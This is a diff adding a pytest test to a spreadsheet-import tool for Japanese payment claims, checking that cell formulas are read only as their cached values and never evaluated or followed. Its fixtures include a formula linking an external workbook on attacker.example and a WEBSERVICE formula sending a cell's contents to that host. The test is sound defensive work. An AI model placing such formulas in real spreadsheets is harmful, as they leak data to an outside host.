@@ -76,3 +76,29 @@ def test_instants_of_a_sheet(take: Import, query: Query, tmp_path: Path) -> None
 def test_an_empty_sheet_is_refused(take: Import, tmp_path: Path) -> None:
     with pytest.raises(FileRefused, match="見出しの行がありません"):
         take("claims", write_xlsx(tmp_path / "a.xlsx", []))
+
+
+def test_a_formula_is_what_it_last_came_to_and_is_never_reckoned_or_followed(
+    take: Import, query: Query, tmp_path: Path
+) -> None:
+    owed = list(CLAIM).index("未納額")
+    rows = [
+        ("=A1*1000", 7_000),  # what its author saw
+        ("='[https://attacker.example/book.xlsx]Sheet1'!A1", 8_000),
+        ('=WEBSERVICE("https://attacker.example/"&B2)', "#VALUE!"),
+        ("=1+1", ""),  # nobody has ever seen what it comes to
+    ]
+    with xlsxwriter.Workbook(str(tmp_path / "a_20260930.xlsx")) as book:
+        sheet = book.add_worksheet()
+        sheet.write_row(0, 0, list(CLAIM))
+        for line, (formula, seen) in enumerate(rows, 1):
+            cells = {**CLAIM, "宛名番号": f"1000000{line}", "通知書番号": f"2601000000{line}"}
+            sheet.write_row(line, 0, list(cells.values()))
+            sheet.write_formula(line, owed, formula, None, seen)
+    report = take("claims", tmp_path / "a_20260930.xlsx")
+    assert (report.counts.accepted, report.counts.rejected) == (2, 2)
+    assert query("SELECT filed_outstanding_yen FROM claim ORDER BY id") == [(7_000,), (8_000,)]
+    assert [(fault.line, fault.column) for fault in report.first_faults] == [
+        (4, "未納額"),
+        (5, "未納額"),
+    ]
